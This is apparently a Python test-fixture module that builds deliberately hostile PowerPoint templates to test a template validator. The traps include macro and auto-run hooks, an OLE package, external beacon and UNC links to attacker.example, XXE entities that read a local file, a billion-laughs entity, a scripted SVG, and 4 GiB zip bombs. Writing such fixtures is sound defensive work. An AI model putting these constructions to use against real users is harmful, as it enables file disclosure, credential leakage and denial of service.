"""Hostile corporate templates, built at test time from the sample template.

Each is the sample (`templates/corporate/corporate-sample.pptx`) with one kind of trap added:
macros, external links and beacons, DOCTYPEs and entities, custom properties, an invalid
colour, and zip bombs. The bombs are written by `write_zip`, which stores members already
compressed: a 4 GiB member of zeros is a 4 MB deflate stream built from one repeated block
(`zeros_deflated`), never 4 GiB on disk or in memory.
"""

from __future__ import annotations

import struct
import zipfile
import zlib
from dataclasses import dataclass
from pathlib import Path

ROOT = Path(__file__).resolve().parent.parent
SAMPLE = ROOT / "templates" / "corporate" / "corporate-sample.pptx"
GIB = 1024 ** 3
MB = 1024 * 1024

MASTER = "ppt/slideMasters/slideMaster1.xml"
MASTER_RELS = "ppt/slideMasters/_rels/slideMaster1.xml.rels"
LAYOUT = "ppt/slideLayouts/slideLayout1.xml"
LAYOUT_RELS = "ppt/slideLayouts/_rels/slideLayout1.xml.rels"
THEME = "ppt/theme/theme1.xml"
THEME_RELS = "ppt/theme/_rels/theme1.xml.rels"
PRES_RELS = "ppt/_rels/presentation.xml.rels"
TYPES = "[Content_Types].xml"
RELS_NS = "http://schemas.openxmlformats.org/package/2006/relationships"
OFFICE_RELS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
MACRO_MAIN = "application/vnd.ms-powerpoint.presentation.macroEnabled.main+xml"
PLAIN_MAIN = "application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml"


@dataclass
class Member:
    """A zip member as stored: `raw` is its data already compressed with `method`."""

    name: str
    raw: bytes
    method: int
    size: int
    crc: int


def deflated(name: str, data: bytes) -> Member:
    c = zlib.compressobj(6, zlib.DEFLATED, -15)
    return Member(name, c.compress(data) + c.flush(), zipfile.ZIP_DEFLATED, len(data),
                  zlib.crc32(data))


def zeros_deflated(name: str, size: int) -> Member:
    """`size` bytes of zeros (a multiple of 1 MiB) as a deflate stream, built from one block:
    after a full flush the compressor starts afresh, so every further MiB gives the same bytes.
    The CRC is left 0: a reader that gets as far as checking it has already lost."""
    block = b"\0" * MB
    c = zlib.compressobj(9, zlib.DEFLATED, -15)
    first = c.compress(block) + c.flush(zlib.Z_FULL_FLUSH)
    again = c.compress(block) + c.flush(zlib.Z_FULL_FLUSH)
    assert c.compress(block) + c.flush(zlib.Z_FULL_FLUSH) == again
    raw = first + again * (size // MB - 1) + c.flush()
    return Member(name, raw, zipfile.ZIP_DEFLATED, size, 0)


def write_zip(path: Path, members: list[Member]) -> Path:
    """A zip of pre-compressed members, with ZIP64 sizes where a member needs them."""
    out, central = bytearray(), bytearray()
    for m in members:
        name = m.name.encode()
        big = m.size >= 0xFFFFFFFF or len(m.raw) >= 0xFFFFFFFF
        extra = struct.pack("<HHQQ", 1, 16, m.size, len(m.raw)) if big else b""
        sizes = (0xFFFFFFFF, 0xFFFFFFFF) if big else (len(m.raw), m.size)
        version = 45 if big else 20
        offset = len(out)
        out += struct.pack("<4sHHHHHLLLHH", b"PK\x03\x04", version, 0, m.method, 0, 0x5821,
                           m.crc, *sizes, len(name), len(extra)) + name + extra + m.raw
        central += struct.pack("<4sHHHHHHLLLHHHHHLL", b"PK\x01\x02", version, version, 0,
                               m.method, 0, 0x5821, m.crc, *sizes, len(name), len(extra), 0, 0,
                               0, 0, offset) + name + extra
    end = struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, len(members), len(members),
                      len(central), len(out), 0)
    path.write_bytes(bytes(out + central + end))
    return path


def sample_parts() -> dict[str, bytes]:
    with zipfile.ZipFile(SAMPLE) as z:
        return {name: z.read(name) for name in z.namelist()}


def build(path: Path, parts: dict[str, bytes], extra: list[Member] = ()) -> Path:
    """A template of `parts` (name -> bytes) and `extra` members stored as they are."""
    return write_zip(path, [deflated(n, b) for n, b in parts.items()] + list(extra))


def add_rel(rels: bytes, r_id: str, reltype: str, target: str, external: bool = False) -> bytes:
    mode = ' TargetMode="External"' if external else ""
    rel = f'<Relationship Id="{r_id}" Type="{reltype}" Target="{target}"{mode}/>'
    return rels.replace(b"</Relationships>", rel.encode() + b"</Relationships>")


def add_override(types: bytes, part: str, content_type: str) -> bytes:
    override = f'<Override PartName="/{part}" ContentType="{content_type}"/>'
    return types.replace(b"</Types>", override.encode() + b"</Types>")


def add_to_tree(xml: bytes, shape: str) -> bytes:
    """Insert `shape` as the last shape of the part's shape tree."""
    return xml.replace(b"</p:spTree>", shape.encode() + b"</p:spTree>", 1)


def picture(shape_id: int, blip: str, name: str = "Picture") -> str:
    return (f'<p:pic><p:nvPicPr><p:cNvPr id="{shape_id}" name="{name}"/><p:cNvPicPr/><p:nvPr/>'
            f'</p:nvPicPr><p:blipFill><a:blip {blip}/><a:stretch><a:fillRect/></a:stretch>'
            '</p:blipFill><p:spPr><a:xfrm><a:off x="0" y="0"/><a:ext cx="1000" cy="1000"/>'
            '</a:xfrm><a:prstGeom prst="rect"><a:avLst/></a:prstGeom></p:spPr></p:pic>')


def linked_text(shape_id: int, link: str) -> str:
    """A text box whose text carries a hyperlink attribute string `link`."""
    return (f'<p:sp><p:nvSpPr><p:cNvPr id="{shape_id}" name="Link box"/><p:cNvSpPr/><p:nvPr/>'
            '</p:nvSpPr><p:spPr/><p:txBody><a:bodyPr/><a:p><a:r><a:rPr lang="en-US">'
            f'<a:hlinkClick {link}/></a:rPr><a:t>Intranet</a:t></a:r></a:p></p:txBody></p:sp>')


# -- the hostile templates ---------------------------------------------------------------------
def macros(folder: Path) -> Path:
    """A macro project, the macro-enabled main type, a ribbon customisation, a macro action."""
    p = sample_parts()
    p[PRES_RELS] = add_rel(p[PRES_RELS], "rId900",
                           "http://schemas.microsoft.com/office/2006/relationships/vbaProject",
                           "vbaProject.bin")
    p["ppt/vbaProject.bin"] = b"\xd0\xcf\x11\xe0 not really VBA"
    p[TYPES] = add_override(p[TYPES].replace(PLAIN_MAIN.encode(), MACRO_MAIN.encode()),
                            "ppt/vbaProject.bin", "application/vnd.ms-office.vbaProject")
    p["_rels/.rels"] = add_rel(
        p["_rels/.rels"], "rId900",
        "http://schemas.microsoft.com/office/2007/relationships/ui/extensibility",
        "customUI/customUI14.xml")
    p["customUI/customUI14.xml"] = (b'<customUI xmlns="http://schemas.microsoft.com/office/2009'
                                    b'/07/customui" onLoad="AutoRun"/>')
    p[LAYOUT] = add_to_tree(p[LAYOUT], linked_text(900, 'r:id="" '
                                                   'action="ppaction://macro?name=AutoRun"'))
    p[LAYOUT_RELS] = add_rel(p[LAYOUT_RELS], "rId901", f"{OFFICE_RELS}/oleObject",
                             "../embeddings/oleObject1.bin")
    p["ppt/embeddings/oleObject1.bin"] = b"\xd0\xcf\x11\xe0 an OLE package"
    p[TYPES] = add_override(p[TYPES], "ppt/embeddings/oleObject1.bin",
                            "application/vnd.openxmlformats-officedocument.oleObject")
    p[LAYOUT] = add_to_tree(p[LAYOUT], OLE_FRAME)
    return build(folder / "macros.pptx", p)


#: an embedded object (which would run its program on a double click) on a layout
OLE_FRAME = (
    '<p:graphicFrame><p:nvGraphicFramePr><p:cNvPr id="901" name="Embedded object"/>'
    '<p:cNvGraphicFramePr/><p:nvPr/></p:nvGraphicFramePr><p:xfrm><a:off x="0" y="0"/>'
    '<a:ext cx="1000" cy="1000"/></p:xfrm><a:graphic><a:graphicData uri="http://schemas.'
    'openxmlformats.org/presentationml/2006/ole"><p:oleObj progId="Package" r:id="rId901">'
    '<p:embed/></p:oleObj></a:graphicData></a:graphic></p:graphicFrame>')


BEACON = "http://tracker.example/open.png"
UNC = "\\\\attacker.example\\share\\logo.png"


def external_links(folder: Path) -> Path:
    """A linked picture and a UNC link on the master, a link on a layout, and a linked
    background picture in the theme: every one would fetch when the deck is opened."""
    p = sample_parts()
    p[MASTER_RELS] = add_rel(add_rel(p[MASTER_RELS], "rId900", f"{OFFICE_RELS}/image", BEACON,
                                     external=True),
                             "rId901", f"{OFFICE_RELS}/hyperlink", UNC, external=True)
    p[MASTER] = add_to_tree(add_to_tree(p[MASTER], picture(900, 'r:link="rId900"', "Beacon")),
                            linked_text(901, 'r:id="rId901"'))
    p[LAYOUT_RELS] = add_rel(p[LAYOUT_RELS], "rId900", f"{OFFICE_RELS}/hyperlink",
                             "https://tracker.example/layout", external=True)
    p[LAYOUT] = add_to_tree(p[LAYOUT], linked_text(900, 'r:id="rId900"'))
    p[THEME_RELS] = add_rel(b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
                            b'<Relationships xmlns="' + RELS_NS.encode() + b'">'
                            b'</Relationships>', "rId900", f"{OFFICE_RELS}/image",
                            "file:///C:/Users/Public/x.png", external=True)
    p[THEME] = p[THEME].replace(
        b"<a:bgFillStyleLst>",
        b'<a:bgFillStyleLst><a:blipFill><a:blip xmlns:r="' + OFFICE_RELS.encode()
        + b'" r:link="rId900"/><a:stretch/></a:blipFill>', 1)
    return build(folder / "external.pptx", p)


DTD_URL = "http://beacon.example/office.dtd"


def doctype(folder: Path, secret: Path) -> Path:
    """DOCTYPEs naming a DTD on a web server and an external entity (a local file) in the
    theme and the master, the entity used in the master's text; a billion-laughs entity in a
    layout."""
    p = sample_parts()
    dtd = (f'<!DOCTYPE x SYSTEM "{DTD_URL}" [<!ENTITY xxe SYSTEM "file://{secret}">]>').encode()
    for name in (THEME, MASTER):
        head, sep, body = p[name].partition(b"?>")
        p[name] = head + sep + dtd + body
    p[MASTER] = p[MASTER].replace(b"<a:t>", b"<a:t>&xxe;", 1)
    laughs = b'<!DOCTYPE x [<!ENTITY a "lol"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">' \
        b'<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;&c;">]>'
    head, sep, body = p[LAYOUT].partition(b"?>")
    p[LAYOUT] = head + sep + laughs + body.replace(b"<a:t>", b"<a:t>&d;", 1)
    return build(folder / "doctype.pptx", p)


def custom_properties(folder: Path) -> Path:
    p = sample_parts()
    p["_rels/.rels"] = add_rel(p["_rels/.rels"], "rId900", f"{OFFICE_RELS}/custom-properties",
                               "docProps/custom.xml")
    p["docProps/custom.xml"] = (
        b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Properties xmlns="http://'
        b'schemas.openxmlformats.org/officeDocument/2006/custom-properties" xmlns:vt="http://'
        b'schemas.openxmlformats.org/officeDocument/2006/docPropsVTypes"><property fmtid="{D5CD'
        b'D505-2E9C-101B-9397-08002B2CF9AE}" pid="2" name="TrackingId"><vt:lpwstr>victim-4711'
        b'</vt:lpwstr></property></Properties>')
    p[TYPES] = add_override(p[TYPES], "docProps/custom.xml",
                            "application/vnd.openxmlformats-officedocument.custom-properties+xml")
    return build(folder / "custom.pptx", p)


def bad_colour(folder: Path, value: str = "GG0000") -> Path:
    p = sample_parts()
    p[THEME] = p[THEME].replace(b'<a:accent2><a:srgbClr val="E07A1F"/>',
                                f'<a:accent2><a:srgbClr val="{value}"/>'.encode())
    assert value.encode() in p[THEME]
    return build(folder / "bad-colour.pptx", p)


SVG_NS = "http://schemas.microsoft.com/office/drawing/2016/SVG/main"
SVG_EXT = "{96DAC541-7B7A-43D3-8B79-37D633B846F1}"


def svg_picture(folder: Path, png: bytes) -> Path:
    """A master picture stored as Office stores an SVG: the SVG (which can run scripts and
    fetch links) in an extension of a blip whose own image is the PNG fallback."""
    p = sample_parts()
    p["ppt/media/image900.png"] = png
    p["ppt/media/image901.svg"] = (b'<svg xmlns="http://www.w3.org/2000/svg"><image href="'
                                   + BEACON.encode() + b'"/><script>alert(1)</script></svg>')
    p[TYPES] = add_override(add_override(p[TYPES], "ppt/media/image900.png", "image/png"),
                            "ppt/media/image901.svg", "image/svg+xml")
    p[MASTER_RELS] = add_rel(add_rel(p[MASTER_RELS], "rId900", f"{OFFICE_RELS}/image",
                                     "../media/image900.png"),
                             "rId901", f"{OFFICE_RELS}/image", "../media/image901.svg")
    blip = (f'r:embed="rId900"><a:extLst><a:ext uri="{SVG_EXT}"><asvg:svgBlip xmlns:asvg='
            f'"{SVG_NS}" r:embed="rId901"/></a:ext></a:extLst></a:blip><a:blip')
    p[MASTER] = add_to_tree(p[MASTER], picture(900, blip, "Logo").replace("<a:blip/>", ""))
    return build(folder / "svg.pptx", p)


BOMB = "ppt/media/zeros.bin"
LINKED_BOMB = "ppt/media/image900.png"


def unreferenced_bomb(folder: Path) -> Path:
    """A 4 GiB member of zeros that nothing refers to (4 MB on disk)."""
    return build(folder / "bomb-4gib.pptx", sample_parts(), [zeros_deflated(BOMB, 4 * GIB)])


def linked_bomb(folder: Path) -> Path:
    """A 1.5 GiB 'picture' the master shows (1.5 MB on disk)."""
    p = sample_parts()
    p[MASTER_RELS] = add_rel(p[MASTER_RELS], "rId900", f"{OFFICE_RELS}/image",
                             "../media/image900.png")
    p[MASTER] = add_to_tree(p[MASTER], picture(900, 'r:embed="rId900"'))
    return build(folder / "bomb-image.pptx", p, [zeros_deflated(LINKED_BOMB, 1536 * MB)])


def unreferenced_payload(folder: Path) -> Path:
    """5 MB that nothing refers to: under the part limit, but a payload, not a template."""
    payload = Member("ppt/payload.dat", bytes(range(256)) * (5 * MB // 256), zipfile.ZIP_STORED,
                     5 * MB, zlib.crc32(bytes(range(256)) * (5 * MB // 256)))
    return build(folder / "payload.pptx", sample_parts(), [payload])


def many_members(folder: Path, count: int = 20_000) -> Path:
    p = sample_parts()
    p.update({f"ppt/junk/{i}.xml": b"" for i in range(count)})
    return build(folder / "many.pptx", p)
